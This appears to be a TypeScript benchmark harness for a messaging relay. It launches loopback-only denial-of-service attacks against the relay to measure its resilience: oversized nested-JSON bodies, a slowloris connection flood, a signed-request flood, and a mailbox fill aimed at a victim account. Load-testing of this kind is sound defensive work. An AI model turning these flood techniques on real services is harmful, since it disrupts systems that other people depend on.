/**
 * One attacker, run as its own process by relay/attack.ts so its work does
 * not share an event loop with the legitimate clients being measured. Issue
 * 12's attacks 1-4, each from one loopback address (127.0.0.x, not the
 * legitimate clients' 127.0.0.1) or one device:
 *
 *   large-bodies      unauthenticated POSTs declaring ~8 MiB of nested JSON arrays, sent as fast as accepted
 *   connection-flood  as many connections as the relay lets one address hold, each trickling its headers (slowloris)
 *   signed-flood      one registered device sending signed requests as fast as it can
 *   mailbox-fill      one registered device sending 1 MiB envelopes to an offline victim as fast as it can
 *
 *   node --import tsx bench/src/relay/attacker.ts '<json: { url, attack, from, victim? }>'
 *
 * Prints "ready" once attacking, and one JSON line of counts when it gets SIGTERM.
 * Loopback only: it refuses any other host.
 */
import { Agent, request } from 'node:http';
import { type Socket, connect } from 'node:net';
import { Account, PreKeyStore, defaultProvider, utf8 } from '@parley/core';
import { RelayClient, authorizationHeader, deviceSigner, preKeysOf, toBase64Url } from '@parley/client/relay-client';

export type AttackName = 'large-bodies' | 'connection-flood' | 'signed-flood' | 'mailbox-fill';

export interface AttackerArgs {
  readonly url: string;
  readonly attack: AttackName;
  /** Source address, e.g. 127.0.0.2. */
  readonly from: string;
  /** mailbox-fill: the victim account (base64url), device 1. */
  readonly victim?: string;
}

const counts: Record<string, number> = {};
const count = (key: string, n = 1) => {
  counts[key] = (counts[key] ?? 0) + n;
};
let stopping = false;
let announced = false;
/** Tells the parent the attack is running (after any setup such as registering the device). */
const ready = () => {
  if (!announced) process.stdout.write('ready\n');
  announced = true;
};

const args = JSON.parse(process.argv[2] ?? '{}') as AttackerArgs;
const target = new URL(args.url);
if (!/^127\./.test(target.hostname) || !/^127\./.test(args.from)) throw new Error('attacker: loopback only');
const port = Number(target.port);

/** A raw connection from `args.from`; resolves once connected (or null if refused). */
function open(): Promise<Socket | null> {
  return new Promise((resolve) => {
    const s = connect({ host: target.hostname, port, localAddress: args.from });
    s.once('connect', () => resolve(s));
    s.once('error', () => resolve(null));
  });
}

// ---- 1: large unauthenticated bodies ------------------------------------------

const DECLARED = 8 * 1024 * 1024 - 1;
const NESTED = Buffer.from('['.repeat(64 * 1024));

async function largeBodies(worker: number): Promise<void> {
  ready();
  while (!stopping) {
    const s = await open();
    if (!s) {
      count('refused');
      await new Promise((r) => setTimeout(r, 10));
      continue;
    }
    count('requests');
    const auth = worker % 2 === 0 ? '' : `Authorization: Parley ${'A'.repeat(43)}.1.${Date.now()}.${'A'.repeat(22)}.${'A'.repeat(86)}\r\n`;
    s.write(
      `POST /v1/messages HTTP/1.1\r\nHost: ${target.host}\r\nContent-Type: application/json\r\nContent-Length: ${DECLARED}\r\n${auth}\r\n`,
    );
    await new Promise<void>((resolve) => {
      let sent = 0;
      let answered = false;
      const pump = () => {
        while (!s.destroyed && sent < DECLARED && !answered) {
          const chunk = NESTED.subarray(0, Math.min(NESTED.length, DECLARED - sent));
          sent += chunk.length;
          if (!s.write(chunk)) return void s.once('drain', pump);
        }
      };
      s.once('data', (d) => {
        answered = true;
        count(`status_${/^HTTP\/1\.1 (\d{3})/.exec(d.toString('latin1'))?.[1] ?? 'other'}`);
        count('body_bytes_sent_before_answer', sent);
        s.destroy();
      });
      s.once('close', () => resolve());
      s.on('error', () => {});
      pump();
    });
  }
}

// ---- 2: connection flood + slowloris ------------------------------------------

async function connectionFlood(): Promise<void> {
  const open_ = new Set<Socket>();
  const TARGET = 2000;
  const line = `GET /healthz HTTP/1.1\r\nHost: ${target.host}\r\nX-Slow: ${'a'.repeat(4000)}`;
  // Slowloris: every open connection gets one more header byte per second.
  const trickle = setInterval(() => {
    for (const s of open_) {
      const i = (s as Socket & { i?: number }).i ?? 0;
      s.write(line[i % line.length] as string);
      (s as Socket & { i?: number }).i = i + 1;
    }
  }, 1000);
  ready();
  while (!stopping) {
    if (open_.size >= TARGET) {
      await new Promise((r) => setTimeout(r, 20));
      continue;
    }
    const s = await open();
    if (!s) {
      count('refused');
      continue;
    }
    count('opened');
    open_.add(s);
    s.on('error', () => {});
    s.once('close', () => {
      open_.delete(s);
      count('closed_by_relay');
    });
    s.write(`GET /healthz HTTP/1.1\r\nHost: ${target.host}\r\n`);
    counts['open_now'] = open_.size;
    counts['open_max'] = Math.max(counts['open_max'] ?? 0, open_.size);
  }
  clearInterval(trickle);
}

// ---- 3 and 4: one registered device ---------------------------------------------

async function registeredDevice() {
  const account = Account.generate();
  const device = account.createDevice(1);
  const agent = new Agent({ keepAlive: true, maxSockets: 64, localAddress: args.from } as ConstructorParameters<typeof Agent>[0]);
  const client = new RelayClient({ baseUrl: args.url, signer: deviceSigner(device) });
  await client.registerDevice(device.certificate, preKeysOf(PreKeyStore.generate(device, { oneTimePreKeys: 0, kemPreKeys: 0 })));
  const provider = defaultProvider();
  /** One signed request over the attacker's own agent (from its own address). */
  const signed = (method: string, path: string, body?: Uint8Array) =>
    new Promise<number>((resolve) => {
      const bodySha256 = provider.backend.sha256(body ?? new Uint8Array(0));
      const authorization = authorizationHeader(
        { method, host: target.host, pathAndQuery: path, bodySha256, timestamp: Date.now(), nonce: provider.random(16) },
        deviceSigner(device),
      );
      const headers: Record<string, string | number> = { authorization };
      if (body) {
        headers['content-type'] = 'application/json';
        headers['content-length'] = body.length;
        headers['content-digest'] = `sha-256=:${Buffer.from(bodySha256).toString('base64')}:`;
      }
      const req = request({ host: target.hostname, port, method, path, headers, agent }, (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode ?? 0));
      });
      req.on('error', () => resolve(0));
      req.end(body ? Buffer.from(body) : undefined);
    });
  return { signed };
}

async function signedFlood(): Promise<void> {
  const { signed } = await registeredDevice();
  ready();
  const loop = async () => {
    while (!stopping) count(`status_${await signed('GET', '/v1/keys')}`);
  };
  await Promise.all(Array.from({ length: 32 }, loop));
}

async function mailboxFill(): Promise<void> {
  if (!args.victim) throw new Error('mailbox-fill needs a victim');
  const { signed } = await registeredDevice();
  const envelope = toBase64Url(defaultProvider().random(1_000_000));
  let n = 0;
  ready();
  const loop = async () => {
    while (!stopping) {
      const body = utf8(JSON.stringify({ messages: [{ account: args.victim, deviceId: 1, id: `fill-${n++}`, envelope }] }));
      const status = await signed('POST', '/v1/messages', body);
      count(`status_${status}`);
      if (status === 200) count('bytes_stored', 1_000_000);
      // Refused (quota, 507, 429): the attacker keeps trying, a little slower.
      if (status !== 200) await new Promise((r) => setTimeout(r, 20));
    }
  };
  await Promise.all(Array.from({ length: 4 }, loop));
}

const run = {
  'large-bodies': () => Promise.all([0, 1, 2, 3].map(largeBodies)),
  'connection-flood': connectionFlood,
  'signed-flood': signedFlood,
  'mailbox-fill': mailboxFill,
}[args.attack];
process.on('SIGTERM', () => {
  stopping = true;
  process.stdout.write(`${JSON.stringify(counts)}\n`, () => process.exit(0));
});
void run().catch((e) => {
  process.stderr.write(`attacker failed: ${e instanceof Error ? e.message : String(e)}\n`);
  process.exit(1);
});
